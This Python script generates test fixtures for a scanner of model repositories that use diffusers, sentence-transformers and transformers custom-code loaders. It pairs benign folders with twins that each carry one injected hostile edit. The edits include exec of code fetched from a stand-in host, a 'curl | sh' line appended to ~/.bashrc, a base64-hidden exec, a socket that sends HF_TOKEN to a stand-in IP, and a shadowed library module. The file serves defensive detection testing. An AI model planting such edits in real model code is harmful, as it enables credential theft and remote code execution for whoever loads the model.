#!/usr/bin/python3
"""Writes the loader repositories of test/fixtures/remote-code/: model
folders whose code is imported by a loader other than transformers'
auto_map, and their twins. Called by generate.py (which clears the folder
first); also runs alone: /usr/bin/python3 scripts/remote-code/loaders.py [OUT]

Neither diffusers nor sentence-transformers is packaged by Debian, so the
folders follow the libraries' loaders as read from their sources:

- diffusers, pipelines/pipeline_loading_utils.py:
  `_resolve_custom_pipeline_and_cls` imports `<_class_name[0]>.py` when
  model_index.json's `_class_name` is a list and that file exists;
  `get_class_obj_and_candidates` imports `<component>/<library>.py` for a
  component `[library, Class]` when that file exists (before importing the
  library by name: a `unet/diffusers.py` shadows the diffusers library);
  `_get_custom_pipeline_class` imports `pipeline.py` for
  `custom_pipeline=<repo>`. utils/dynamic_modules_utils.py
  `get_cached_module_file` requires trust_remote_code for local files and
  copies the relative imports beside the module. At load diffusers runs
  the module top levels, the pipeline's `__init__` (register_modules) and
  the components' `from_pretrained` → `from_config` → `__init__`; the
  pipeline's `__call__` and the models' `forward` run only when used.
- sentence-transformers, SentenceTransformer.py `_load_sbert_model` →
  `_load_module_class_from_ref`: a modules.json `type` outside
  `sentence_transformers.` goes to transformers'
  `get_class_from_dynamic_module` (for a local folder even without
  trust_remote_code), then `Class.load(path, subfolder=...)` or
  `Class(...)`; `forward` runs on encode().
- transformers pipelines/__init__.py `pipeline()`: config.json
  `custom_pipelines[task]["impl"]` through get_class_from_dynamic_module,
  then `Pipeline.__init__` → `_sanitize_parameters`; preprocess/_forward/
  postprocess run on a call.
- transformers generation/utils.py `adjust_generation_fn` →
  `load_custom_generate`: `custom_generate/generate.py` imported at
  from_pretrained(..., trust_remote_code=True); `generate()` runs later.

benign/: the folder is `suspicious` (model/remote-code only): the loader
runs the repository's code by design, and none of what runs at load
reaches a sink (the file writes are in `save`, the downloads in `__call__`).
malicious/: one hostile edit in code the loader runs at load.
later/: one hostile edit in code only a later call runs (`forward`,
`__call__`, `postprocess`, `generate`): suspicious, never clean.
"""
import json
import shutil
import sys
from pathlib import Path

import numpy as np

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(ROOT / "scripts" / "benign"))
import hf  # noqa: E402
import loader_sources as src  # noqa: E402

rng = np.random.default_rng(23)


def weights(shapes):
    return hf.safetensors_bytes({n: rng.standard_normal(s).astype(np.float32) for n, s in shapes.items()}, {"format": "pt"})


def diffusers_json(d):
    """diffusers ConfigMixin.to_json_string: indent 2, sorted keys, trailing newline."""
    return json.dumps(d, indent=2, sort_keys=True) + "\n"


def py(files):
    for name, code in files.items():
        compile(code, name, "exec")  # every source is valid Python
    return files


def card(title, body, library):
    return f"---\nlicense: apache-2.0\nlibrary_name: {library}\n---\n\n# {title}\n\n{body}\n"


SCHEDULER = {"_class_name": "DDPMScheduler", "_diffusers_version": "0.30.0", "beta_end": 0.02, "beta_schedule": "linear", "beta_start": 0.0001,
             "clip_sample": True, "num_train_timesteps": 1000, "prediction_type": "epsilon", "variance_type": "fixed_small"}


def diffusers_custom_components():
    return {
        "model_index.json": diffusers_json({"_class_name": ["pipeline_tiny", "TinyDiffusionPipeline"], "_diffusers_version": "0.30.0",
                                            "scheduler": ["diffusers", "DDPMScheduler"], "unet": ["tiny_unet", "TinyUNet2DModel"]}),
        "scheduler/scheduler_config.json": diffusers_json(SCHEDULER),
        "unet/config.json": diffusers_json({"_class_name": "TinyUNet2DModel", "_diffusers_version": "0.30.0", "block_out_channels": [8, 16],
                                            "in_channels": 3, "out_channels": 3, "sample_size": 8, "time_embedding_dim": 16}),
        "unet/diffusion_pytorch_model.safetensors": weights({"conv_in.weight": (8, 3, 3, 3), "conv_in.bias": (8,), "conv_out.weight": (3, 8, 3, 3)}),
        "README.md": card("Tiny diffusion pipeline", "`DiffusionPipeline.from_pretrained(path, trust_remote_code=True)`", "diffusers"),
        **py({"pipeline_tiny.py": src.PIPELINE_TINY, "unet/tiny_unet.py": src.TINY_UNET, "unet/blocks.py": src.TINY_BLOCKS}),
    }


def diffusers_community_pipeline():
    return {
        "model_index.json": diffusers_json({"_class_name": "DDPMPipeline", "_diffusers_version": "0.30.0",
                                            "scheduler": ["diffusers", "DDPMScheduler"], "unet": ["diffusers", "UNet2DModel"]}),
        "scheduler/scheduler_config.json": diffusers_json(SCHEDULER),
        "unet/config.json": diffusers_json({"_class_name": "UNet2DModel", "_diffusers_version": "0.30.0", "block_out_channels": [8, 16],
                                            "down_block_types": ["DownBlock2D", "DownBlock2D"], "up_block_types": ["UpBlock2D", "UpBlock2D"],
                                            "in_channels": 3, "out_channels": 3, "layers_per_block": 1, "sample_size": 8}),
        "unet/diffusion_pytorch_model.safetensors": weights({"conv_in.weight": (8, 3, 3, 3), "conv_in.bias": (8,)}),
        "README.md": card("Scheduled img2img", "`DiffusionPipeline.from_pretrained(base, custom_pipeline=path, trust_remote_code=True)`", "diffusers"),
        **py({"pipeline.py": src.COMMUNITY_PIPELINE}),
    }


def st_custom_module():
    return {
        "modules.json": json.dumps([
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1_Pooling", "type": "custom_st.WeightedMeanPooling"},
        ], indent=2),
        "config_sentence_transformers.json": json.dumps({"__version__": {"sentence_transformers": "3.3.1", "transformers": "4.46.0", "pytorch": "2.4.1"},
                                                         "model_type": "SentenceTransformer", "prompts": {}, "default_prompt_name": None,
                                                         "similarity_fn_name": "cosine"}, indent=2),
        "sentence_bert_config.json": json.dumps({"max_seq_length": 128, "do_lower_case": False}, indent=2),
        "config.json": hf.config_json({"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 16, "num_attention_heads": 2,
                                       "num_hidden_layers": 1, "intermediate_size": 32, "vocab_size": 64, "max_position_embeddings": 128,
                                       "torch_dtype": "float32", "transformers_version": "4.46.0"}),
        "model.safetensors": weights({"embeddings.word_embeddings.weight": (64, 16), "embeddings.LayerNorm.weight": (16,)}),
        "1_Pooling/config.json": json.dumps({"dimension": 16, "normalize": True}, indent=4),
        "README.md": card("Embeddings with a custom pooling module", "`SentenceTransformer(path, trust_remote_code=True)`", "sentence-transformers"),
        **py({"custom_st.py": src.CUSTOM_ST, "pooling_utils.py": src.POOLING_UTILS}),
    }


def transformers_custom_pipeline():
    return {
        "config.json": hf.config_json({"architectures": ["BertForSequenceClassification"], "model_type": "bert", "hidden_size": 16,
                                       "num_attention_heads": 2, "num_hidden_layers": 1, "intermediate_size": 32, "vocab_size": 64,
                                       "id2label": {"0": "NEGATIVE", "1": "POSITIVE"}, "label2id": {"NEGATIVE": 0, "POSITIVE": 1},
                                       "custom_pipelines": {"pair-classification": {"impl": "custom_pipeline.PairClassificationPipeline",
                                                                                    "pt": ["AutoModelForSequenceClassification"], "tf": []}},
                                       "torch_dtype": "float32", "transformers_version": "4.46.0"}),
        "model.safetensors": weights({"bert.embeddings.word_embeddings.weight": (64, 16), "classifier.weight": (2, 16)}),
        "README.md": card("Pair classification", "`pipeline(model=path, trust_remote_code=True)`", "transformers"),
        **py({"custom_pipeline.py": src.CUSTOM_PIPELINE}),
    }


def transformers_custom_generate():
    return {
        "config.json": hf.config_json({"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 16, "intermediate_size": 32,
                                       "num_attention_heads": 2, "num_hidden_layers": 1, "num_key_value_heads": 1, "vocab_size": 64,
                                       "torch_dtype": "float32", "transformers_version": "4.56.0"}),
        "generation_config.json": hf.config_json({"bos_token_id": 1, "eos_token_id": 2, "transformers_version": "4.56.0"}),
        "model.safetensors": weights({"model.embed_tokens.weight": (64, 16), "lm_head.weight": (64, 16)}),
        "custom_generate/requirements.txt": "torch\n",
        "README.md": card("Custom decoding loop", "`AutoModelForCausalLM.from_pretrained(path, trust_remote_code=True).generate(...)`", "transformers"),
        **py({"custom_generate/generate.py": src.CUSTOM_GENERATE}),
    }


REPOS = {
    "diffusers-custom-components": diffusers_custom_components,
    "diffusers-community-pipeline": diffusers_community_pipeline,
    "st-custom-module": st_custom_module,
    "transformers-custom-pipeline": transformers_custom_pipeline,
    "transformers-custom-generate": transformers_custom_generate,
}

MARKER = "touch /tmp/modelguard-marker"

# (twin, repo, file, text to find, replacement): one hostile edit each, in code the loader runs at load.
MALICIOUS = [
    # diffusers imports pipeline_tiny.py (_class_name list): its top level runs.
    ("diffusers-pipeline-module-top", "diffusers-custom-components", "pipeline_tiny.py",
     "from diffusers.utils.torch_utils import randn_tensor\n",
     f"from diffusers.utils.torch_utils import randn_tensor\n\nimport os\nos.system('{MARKER}')\n"),
    # the component's __init__ runs in from_pretrained → from_config.
    ("diffusers-unet-init-downloads", "diffusers-custom-components", "unet/tiny_unet.py",
     "        self.time_embedding_dim = time_embedding_dim\n",
     "        self.time_embedding_dim = time_embedding_dim\n        import urllib.request\n        exec(urllib.request.urlopen('https://example.invalid/p.py').read())\n"),
    # unet/blocks.py is imported by unet/tiny_unet.py at its top (get_relative_imports).
    ("diffusers-sibling-spawns", "diffusers-custom-components", "unet/blocks.py",
     "from torch import nn\n",
     f"from torch import nn\n\nimport subprocess\nsubprocess.Popen(['sh', '-c', '{MARKER}'])\n"),
    # the pipeline's __init__ runs when from_pretrained builds it.
    ("diffusers-pipeline-init-writes-bashrc", "diffusers-community-pipeline", "pipeline.py",
     "        self.register_modules(unet=unet, scheduler=scheduler)\n",
     "        self.register_modules(unet=unet, scheduler=scheduler)\n        import os\n        with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n            rc.write('curl -s https://example.invalid/i | sh\\n')\n"),
    # load() is what _load_sbert_model calls.
    ("st-load-execs-base64", "st-custom-module", "custom_st.py",
     "        path = os.path.join(model_name_or_path, subfolder)\n",
     "        path = os.path.join(model_name_or_path, subfolder)\n        import base64\n        exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3RvdWNoIC90bXAvbW9kZWxndWFyZC1tYXJrZXInKQ=='))\n"),
    # __init__ (load calls cls(**config)).
    ("st-init-os-system", "st-custom-module", "custom_st.py",
     "        self.dimension = dimension\n",
     f"        self.dimension = dimension\n        os.system('{MARKER}')\n"),
    # the sibling pooling_utils.py is imported at custom_st.py's top.
    ("st-sibling-socket", "st-custom-module", "pooling_utils.py",
     "import torch\n",
     "import torch\nimport os\nimport socket\n\n_s = socket.create_connection(('203.0.113.7', 4444))\n_s.sendall(os.environ.get('HF_TOKEN', '').encode())\n"),
    # Pipeline.__init__ calls _sanitize_parameters.
    ("pipeline-sanitize-spawns", "transformers-custom-pipeline", "custom_pipeline.py",
     "        preprocess_kwargs = {}\n",
     f"        preprocess_kwargs = {{}}\n        import subprocess\n        subprocess.run(['sh', '-c', '{MARKER}'])\n"),
    # custom_generate/generate.py is imported at from_pretrained.
    ("custom-generate-module-top", "transformers-custom-generate", "custom_generate/generate.py",
     "import torch\n",
     f"import torch\nimport os\n\nos.system('{MARKER}')\n"),
]

# A hostile edit only a later call runs: not clean, named as not run at load.
LATER = [
    ("diffusers-unet-forward", "diffusers-custom-components", "unet/tiny_unet.py",
     "        h = self.up(self.down(h))\n",
     f"        h = self.up(self.down(h))\n        import os\n        os.system('{MARKER}')\n"),
    ("st-forward", "st-custom-module", "custom_st.py",
     "        features[\"sentence_embedding\"] = pooled\n",
     f"        features[\"sentence_embedding\"] = pooled\n        os.system('{MARKER}')\n"),
    ("custom-generate-in-generate", "transformers-custom-generate", "custom_generate/generate.py",
     "    tokens = input_ids\n",
     f"    tokens = input_ids\n    import os\n    os.system('{MARKER}')\n"),
]

# A library name shadowed by a file: model_index.json unchanged (["diffusers", "UNet2DModel"]),
# but get_class_obj_and_candidates finds unet/diffusers.py first and imports it.
SHADOW = ("diffusers-library-shadowed", "diffusers-community-pipeline", "unet/diffusers.py",
          f"import os\n\nos.system('{MARKER}')\n\nfrom diffusers import UNet2DModel  # noqa: E402\n")


def write_repo(dest, files):
    if dest.exists():
        shutil.rmtree(dest)
    for rel, data in files.items():
        hf.write(dest / rel, data)


def write(out):
    built = {name: make() for name, make in REPOS.items()}
    for name, files in built.items():
        write_repo(out / "benign" / name, files)
    for group, edits in (("malicious", MALICIOUS), ("later", LATER)):
        for twin, repo, file, find, repl in edits:
            files = dict(built[repo])
            code = files[file]
            assert code.count(find) == 1, (twin, find)
            code = code.replace(find, repl)
            compile(code, file, "exec")
            files[file] = code
            # A twin keeps the configs and the code (what the verdict is about), not the weights.
            write_repo(out / group / twin, {k: v for k, v in files.items() if k.endswith((".py", ".json"))})
    twin, repo, file, code = SHADOW
    compile(code, file, "exec")
    files = {k: v for k, v in built[repo].items() if k.endswith(".json")}
    write_repo(out / "malicious" / twin, {**files, file: code})


if __name__ == "__main__":
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "test" / "fixtures" / "remote-code"
    write(out)
    print(f"wrote loader repositories under {out}")
